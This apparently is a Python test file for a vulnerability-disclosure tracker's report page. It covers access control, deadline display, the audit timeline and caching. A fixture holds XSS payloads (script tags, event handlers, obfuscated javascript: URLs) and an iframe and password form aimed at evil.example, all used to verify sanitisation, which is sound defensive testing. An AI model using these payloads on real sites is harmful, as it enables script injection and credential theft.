"""The report page: facts, deadlines with the rules behind them, and the audit timeline.

alice is on Emissary's security team, bob leads the fix of EMISSARY-2 only, charlie has no role.
An outsider gets the same 404 as for a report that does not exist: no title, no hint.
"""

import re
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from time_machine import TimeMachineFixture

from tests.desk.cast import CRASH_TITLE, LEAK_TITLE, Cast, file_report, make_cast
from tests.desk.factories import make_member, make_project, make_report
from tests.desk.report_page import sign_in
from vulndesk.desk.models import Report
from vulndesk.desk.services import deadlines
from vulndesk.desk.services.reports import create_report, override_severity, score_report
from vulndesk.desk.services.transitions import transition
from vulndesk.process.lifecycle import State

T0 = datetime(2024, 3, 1, 10, tzinfo=UTC)  # a Friday

pytestmark = [pytest.mark.django_db, pytest.mark.time_machine(T0, tick=False)]

HOSTILE_MARKDOWN = """\
The search box runs what it is given:

<script>alert(1)</script>

<img src=x onerror=alert(1)>

[click me](javascript:alert(1))

<a href="JaVaScRiPt:alert(2)">mixed case</a> <a href="&#106;avascript:alert(3)">entity</a>

<svg><animate onbegin=alert(4) attributeName=x dur=1s></svg>
<iframe src="https://evil.example/"></iframe>
<div style="background:url(javascript:alert(5))" onmouseover="alert(6)">hover</div>
<form action="https://evil.example/"><input name="password"></form>
"""

ORDINARY_MARKDOWN = """\
**Impact**: anyone can read the *admin* token.

1. Send a request
2. Read the log

```
curl -H 'X-Debug: <script>' https://proxy.example/
```

See [the log format](https://www.getambassador.io/docs/).
"""


@pytest.fixture
def cast() -> Cast:
    return make_cast()


def page(client: Client, user: User | None, report: Report) -> str:
    if user is not None:
        sign_in(client, user)
    response = client.get(report.get_absolute_url())
    assert response.status_code == 200
    return response.content.decode()


def deadline_cells(html: str, name: str) -> list[str]:
    """The texts of the deadline table's cells for `name`, tags removed and spaces collapsed."""
    for row in re.findall(r"<tr>(.*?)</tr>", html, flags=re.S):
        if f"<td>{name}</td>" in row:
            cells = re.findall(r"<td[^>]*>(.*?)</td>", row, flags=re.S)
            return [" ".join(re.sub(r"<[^>]+>", " ", cell).split()) for cell in cells]
    raise AssertionError(f"no deadline row for {name}")


def deadline_row(html: str, name: str) -> str:
    """Name, due time, status and rule of the deadline `name`, as one line of text."""
    return " ".join(deadline_cells(html, name)[:4])


class Markup(HTMLParser):
    """Every start tag and its attributes, as a browser would build them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def form_actions(html: str) -> list[str]:
    parser = Markup()
    parser.feed(html)
    return [dict(attrs).get("action") or "" for tag, attrs in parser.tags if tag == "form"]


def executable_markup(html: str) -> list[str]:
    """Anything in `html` that a browser would run: script-ish tags, handlers, script URLs."""
    parser = Markup()
    parser.feed(html)
    found = []
    for tag, attrs in parser.tags:
        # The page's own scripts come from /static/; anything else would be the report's.
        if tag == "script" and (dict(attrs).get("src") or "").startswith("/static/"):
            continue
        if tag in {"script", "iframe", "object", "embed", "svg", "math", "base"}:
            found.append(f"<{tag}>")
        for name, value in attrs:
            # HTMLParser has decoded entities, so &#106;avascript: shows as javascript:.
            url = re.sub(r"\s", "", value or "").lower()
            if name.startswith("on") or name == "style" or url.startswith(("javascript:", "data:")):
                found.append(f"<{tag} {name}={value!r}>")
    return found


# -- who may open the page ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("who", "which", "status"),
    [
        ("anonymous", "leak", 302),
        ("anonymous", "crash", 302),
        ("charlie", "leak", 404),
        ("charlie", "crash", 404),
        ("bob", "leak", 404),
        ("bob", "crash", 200),
        ("alice", "leak", 200),
        ("alice", "crash", 200),
    ],
)
def test_who_may_open_a_report_page(
    client: Client, cast: Cast, who: str, which: str, status: int
) -> None:
    report: Report = getattr(cast, which)
    if who != "anonymous":
        sign_in(client, getattr(cast, who))
    response = client.get(report.get_absolute_url())
    assert response.status_code == status
    if status == 302:
        assert response["Location"] == f"{reverse('login')}?next={report.get_absolute_url()}"
    if status != 200:
        assert report.title not in response.content.decode()


def test_an_outsider_cannot_tell_a_hidden_report_from_a_missing_one(
    client: Client, cast: Cast
) -> None:
    sign_in(client, cast.charlie)
    hidden = client.get(cast.leak.get_absolute_url())
    missing = client.get(reverse("report-detail", kwargs={"project": "emissary", "number": 99}))
    assert hidden.status_code == missing.status_code == 404
    assert hidden.content == missing.content
    assert LEAK_TITLE not in hidden.content.decode()


def test_an_anonymous_visitor_cannot_tell_either(client: Client, cast: Cast) -> None:
    hidden = client.get(cast.leak.get_absolute_url())
    missing = client.get(reverse("report-detail", kwargs={"project": "emissary", "number": 99}))
    assert hidden.status_code == missing.status_code == 302
    assert hidden.content == missing.content == b""


def test_a_fix_lead_loses_the_page_when_the_lead_passes_to_someone_else(
    client: Client, cast: Cast
) -> None:
    Report.objects.filter(pk=cast.crash.pk).update(fix_lead=cast.alice)
    sign_in(client, cast.bob)
    assert client.get(cast.crash.get_absolute_url()).status_code == 404


def test_an_inactive_user_sees_nothing(client: Client, cast: Cast) -> None:
    sign_in(client, cast.alice)
    User.objects.filter(pk=cast.alice.pk).update(is_active=False)
    response = client.get(cast.leak.get_absolute_url())
    assert response.status_code == 302  # the session no longer authenticates anyone
    assert LEAK_TITLE not in response.content.decode()


# -- what the page shows -----------------------------------------------------------------------


def test_it_shows_the_reports_facts(client: Client, cast: Cast) -> None:
    html = page(client, cast.alice, cast.crash)
    assert f"EMISSARY-2: {CRASH_TITLE}" in html
    assert "Emissary" in html
    assert "policy: envoy" in html
    assert '<span class="state">Received</span>' in html
    assert "not scored yet" in html
    assert "2024-03-01 10:00 UTC" in html  # received
    assert "not scheduled" in html  # no Release Date yet
    assert "<dt>Fix Lead</dt><dd>bob</dd>" in html


def test_it_shows_the_score_once_the_report_is_scored(client: Client, cast: Cast) -> None:
    score_report(cast.crash, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N", actor=cast.alice)
    html = page(client, cast.alice, cast.crash)
    assert '<span class="severity severity-high">high</span>' in html
    assert "7.5 <code>CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N</code>" in html


def test_it_shows_each_deadline_with_its_due_time_status_and_rule(
    client: Client, cast: Cast
) -> None:
    html = page(client, cast.alice, cast.crash)
    # RULES.md, T0 = 2024-03-01 10:00Z: EMI-27 +24 h, EMI-30 +7 d, EMI-40 +21 d.
    assert deadline_row(html, "fix_team_formed") == (
        "fix_team_formed 2024-03-02 10:00 UTC due EMI-27"
    )
    assert deadline_row(html, "fix_developed") == "fix_developed 2024-03-08 10:00 UTC due EMI-30"
    assert deadline_row(html, "forthcoming_fix_announced") == (
        "forthcoming_fix_announced 2024-03-08 10:00 UTC due EMI-37"
    )
    assert deadline_row(html, "fix_released") == "fix_released 2024-03-22 10:00 UTC due EMI-40"
    # EMI-46 follows the Release Date, which is not set.
    assert deadline_row(html, "retrospective_sent") == "retrospective_sent waiting waiting EMI-46"


def test_each_deadline_shows_the_policy_sentence_it_comes_from(client: Client, cast: Cast) -> None:
    html = page(client, cast.alice, cast.crash)
    # EMI-27, in the policy's words, on the page itself rather than in a tooltip.
    quote = deadline_cells(html, "fix_team_formed")[4]
    assert quote.startswith("These steps should be completed within the first 24 hours")


def test_it_lists_deadlines_soonest_first_and_waiting_ones_last(client: Client, cast: Cast) -> None:
    html = page(client, cast.alice, cast.crash)
    names = re.findall(r"<tr>\s*<td>(\w+)</td>", html)
    assert names == [
        "fix_team_formed",
        "fix_developed",
        "forthcoming_fix_announced",
        "fix_released",
        "retrospective_sent",
    ]


def test_it_shows_overdue_met_and_paused_deadlines(
    client: Client, cast: Cast, time_machine: TimeMachineFixture
) -> None:
    deadlines.meet(cast.crash, "fix_team_formed", actor=cast.alice)
    deadlines.pause(cast.crash, "fix_developed", reason="reporter asked for time", actor=cast.alice)
    time_machine.move_to(T0 + timedelta(days=8), tick=False)
    html = page(client, cast.alice, cast.crash)
    assert deadline_row(html, "fix_team_formed").endswith(" met EMI-27")
    assert deadline_row(html, "fix_developed").endswith(" paused EMI-30")
    assert deadline_row(html, "forthcoming_fix_announced").endswith(" overdue EMI-37")


def create_public_report(cast: Cast) -> Report:
    return create_report(
        cast.emissary,
        title="Header smuggling, already on the public tracker",
        description="",
        reporter_name="",
        reporter_email="",
        public_disclosure_at=T0,
        public_disclosure_url="https://github.com/emissary-ingress/emissary/issues/1",
        actor=cast.alice,
    )


def test_it_marks_asap_deadlines_of_a_public_report(client: Client, cast: Cast) -> None:
    public = create_public_report(cast)
    html = page(client, cast.alice, public)
    # EMI-14: public and unscored, so due as soon as possible: at T0.
    assert deadline_row(html, "fix_released") == (
        "fix_released 2024-03-01 10:00 UTC (ASAP) due EMI-40"
    )


def test_it_shows_the_audit_timeline_oldest_first(client: Client, cast: Cast) -> None:
    transition(cast.crash, State.TRIAGING, actor=cast.alice, reason="looking into it")
    html = page(client, cast.alice, cast.crash)
    created = html.index("<strong>report.created</strong> by alice")
    moved = html.index("<strong>report.transition</strong> by alice")
    assert created < moved
    assert "reason: looking into it" in html
    assert '<time datetime="2024-03-01T10:00:00+00:00">2024-03-01 10:00</time>' in html


def test_the_timeline_shows_only_this_reports_events(client: Client, cast: Cast) -> None:
    transition(cast.leak, State.TRIAGING, actor=cast.alice, reason="the leak first")
    assert "the leak first" not in page(client, cast.alice, cast.crash)


# -- what a reporter can put on the page ---------------------------------------------------------


def test_a_hostile_description_renders_without_executable_markup(
    client: Client, cast: Cast
) -> None:
    report = file_report(cast.emissary, "XSS probe", actor=None, description=HOSTILE_MARKDOWN)
    html = page(client, cast.alice, report)
    assert executable_markup(html) == []
    assert html.lower().count("<script") == html.count('<script src="/static/')
    assert "javascript:" not in html.lower()
    assert "onerror" not in html.lower()
    # The page's own forms, each posting to vulndesk; none from the reporter's markup.
    assert set(form_actions(html)) == {
        reverse("logout"),
        f"{report.get_absolute_url()}#outbox",  # the announcement preview, a GET of this page
        *(
            reverse(name, kwargs={"project": "emissary", "number": report.number})
            for name in (
                "report-transition",
                "report-score",
                "report-triage",
                "report-reject",
                "report-affect-add",
                "report-comment-add",
                "report-reporter-reply",
                "report-fix-repo",
                "report-component",
                "report-release-date",
                "report-embargo-break",
                "report-fix-lead-assign",
                "report-fix-team-invite",
            )
        ),
    }
    assert 'name="password"' not in html
    assert "The search box runs what it is given:" in html
    assert ">click me</a>" in html  # the link text stays; its script URL goes


def test_ordinary_markdown_renders(client: Client, cast: Cast) -> None:
    report = file_report(cast.emissary, "Token leak", actor=None, description=ORDINARY_MARKDOWN)
    html = page(client, cast.alice, report)
    assert "<strong>Impact</strong>" in html
    assert "<em>admin</em>" in html
    assert "<ol>\n<li>Send a request</li>\n<li>Read the log</li>\n</ol>" in html
    # In a code block the markup is text to read, not markup to run.
    assert "<pre><code>curl -H 'X-Debug: &lt;script&gt;' https://proxy.example/" in html
    assert (
        '<a href="https://www.getambassador.io/docs/" rel="noopener noreferrer nofollow">'
        "the log format</a>"
    ) in html
    assert executable_markup(html) == []


def test_a_title_with_html_is_escaped_on_the_page_and_in_the_list(
    client: Client, cast: Cast
) -> None:
    title = '<b>Bold</b> "quoted" <script>alert(1)</script>'
    report = file_report(cast.emissary, title, actor=None)
    escaped = "&lt;b&gt;Bold&lt;/b&gt; &quot;quoted&quot; &lt;script&gt;alert(1)&lt;/script&gt;"
    html = page(client, cast.alice, report)
    assert escaped in html
    assert executable_markup(html) == []
    listing = client.get(reverse("report-list")).content.decode()
    assert escaped in listing
    assert executable_markup(listing) == []


def test_reporter_text_in_the_audit_timeline_is_escaped(client: Client, cast: Cast) -> None:
    transition(cast.crash, State.TRIAGING, actor=cast.alice, reason="<img src=x onerror=alert(1)>")
    html = page(client, cast.alice, cast.crash)
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert executable_markup(html) == []


# -- caching -------------------------------------------------------------------------------------


def test_an_embargoed_report_page_is_never_cached(client: Client, cast: Cast) -> None:
    sign_in(client, cast.alice)
    response = client.get(cast.leak.get_absolute_url())
    cache_control = response["Cache-Control"]
    for directive in ("private", "no-cache", "no-store", "max-age=0"):
        assert directive in cache_control
    assert "Expires" in response


def test_a_security_team_severity_override_is_what_the_page_shows_kar_30(
    client: Client, cast: Cast
) -> None:
    karmada = make_project("karmada", preset="karmada")
    make_member(karmada, cast.alice)
    report = make_report(karmada)
    report = score_report(report, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", actor=cast.alice)
    override_severity(
        report, "medium", reason="needs a local account in practice", actor=cast.alice
    )
    html = page(client, cast.alice, report)
    assert '<span class="severity severity-medium">medium</span>' in html
    assert "needs a local account in practice (KAR-30)" in html
    assert "in the next patch release" in html  # KAR-29 follows the override
